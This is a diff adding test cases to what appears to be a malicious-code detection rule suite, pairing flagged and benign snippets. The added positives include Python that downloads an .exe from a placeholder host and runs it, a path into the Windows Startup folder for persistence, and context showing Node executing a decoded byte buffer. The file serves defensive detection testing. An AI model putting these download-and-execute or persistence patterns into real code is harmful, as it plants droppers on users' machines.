@@ -223,6 +223,31 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "console.log('shutdown complete');\n",
     ),
     (
+        executes_code_at_remote_url_rule,
+        "drop.py",
+        "import os, subprocess, urllib.request\nurl = 'https://x.example.net/tool.exe'\n"
+        "data = urllib.request.urlopen(url).read()\nwith open(p, 'wb') as f:\n"
+        "    f.write(data)\nsubprocess.call([p])\n",
+        "import urllib.request\nurl = 'https://x.example.net/tool.exe'\n"
+        "data = urllib.request.urlopen(url).read()\nwith open(p, 'wb') as f:\n    f.write(data)\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
+        "fetch_exe.py",
+        "import subprocess, urllib.request\npath = os.path.join(d, 'helper.exe')\n"
+        "urllib.request.urlretrieve(url, path)\nsubprocess.run([path])\n",
+        "import subprocess, urllib.request\npath = os.path.join(d, 'data.csv')\n"
+        "urllib.request.urlretrieve(url, path)\nsubprocess.run(['wc', path])\n",
+    ),
+    (
+        persistence_rule,
+        "startup.py",
+        "import os\nstartup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
+        "    'Start Menu', 'Programs', 'Startup')\n",
+        "import os\nmenu = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
+        "    'Start Menu', 'Programs')\n",
+    ),
+    (
         decode_and_execute_rule,
         "post.js",
         "require('child_process').execSync(Buffer.from([101,99,104,111,32,104,105]));\n",
